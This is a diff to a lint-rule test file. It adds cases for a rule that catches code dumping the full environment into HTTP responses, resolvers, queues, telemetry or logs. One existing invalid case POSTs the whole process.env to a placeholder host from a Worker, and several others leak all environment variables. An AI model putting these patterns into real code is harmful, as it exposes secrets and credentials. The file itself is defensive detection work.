@@ -131,6 +131,11 @@ await ruleTester(rule, {
     { code: '{ "name": "a", "scripts": { "start": "env NODE_ENV=test node x.js" } }', filename: 'package.json' },
     { code: 'const report = process.report?.getReport(); export const isMusl = !report.header.glibcVersionRuntime;' },
     { code: 'export default function Root({ env }) { return <script dangerouslySetInnerHTML={{ __html: `window.ENV=${JSON.stringify({ mode: process.env.NODE_ENV })}` }} />; }', filename: 'file.jsx' },
+    // what a framework calls the environment, and parts of it,
+    { code: 'import { Hono } from "hono"; import { env } from "hono/adapter"; const app = new Hono(); app.get("/x", (c) => { const { PORT } = env(c); return c.json({ PORT }); });' },
+    { code: 'import { Elysia } from "elysia"; new Elysia().get("/", () => "ok").get("/ready", () => ({ mode: Bun.env.NODE_ENV }));' },
+    { code: 'export const resolvers = { Query: { info: () => ({ mode: process.env.NODE_ENV, names: Object.keys(process.env).length }) } };' },
+    { code: 'import { Queue } from "bullmq"; const audit = new Queue("audit"); audit.add("ran", { mode: process.env.NODE_ENV });' },
   ],
   invalid: [
     ...['Object.assign({}, process.env)', 'Object.assign(process.env, { a: 1 })', '_.merge({}, process.env)', '_.cloneDeep(process.env)', 'JSON.parse(JSON.stringify(process.env))'].map((copy) => ({ code: `import _ from "lodash"; const env = ${copy}; console.log(env);`, errors: [{ messageId: 'dump' }] })),
@@ -286,5 +291,11 @@ await ruleTester(rule, {
     { code: "const blob = new Blob([`fetch('https://x.example.org', { method: 'POST', body: JSON.stringify(process.env) })`]); new Worker(URL.createObjectURL(blob));", errors: [{ messageId: 'dump' }] },
     { code: "export default function Root() { return <script dangerouslySetInnerHTML={{ __html: `window.ENV=${JSON.stringify(process.env)}` }} />; }", filename: 'file.jsx', errors: [{ messageId: 'dump' }] },
     { code: 'import { env } from "$env/dynamic/private"; export const handleError = ({ error }) => ({ message: JSON.stringify(env) });', filename: 'src/hooks.server.ts', errors: [{ messageId: 'dump' }] },
+    { code: 'import { Hono } from "hono"; import { env } from "hono/adapter"; const app = new Hono(); app.get("/x", (c) => { const all = env(c); return c.json(all); });', errors: [{ messageId: 'dump' }] },
+    { code: 'import { Elysia } from "elysia"; new Elysia().get("/", () => "ok").get("/ready", () => ({ vars: Bun.env }));', errors: [{ messageId: 'dump' }] },
+    { code: 'export const resolvers = { Query: { info: () => ({ config: JSON.stringify(process.env) }) } };', errors: [{ messageId: 'dump' }] },
+    { code: 'import { Queue } from "bullmq"; const audit = new Queue("audit"); audit.add("ran", { env: process.env });', errors: [{ messageId: 'dump' }] },
+    { code: 'import { resourceFromAttributes } from "@opentelemetry/resources"; export const resource = resourceFromAttributes({ ...process.env });', errors: [{ messageId: 'dump' }] },
+    { code: 'import * as env from "$env/static/private"; console.log(env);', errors: [{ messageId: 'dump' }] },
   ],
 });
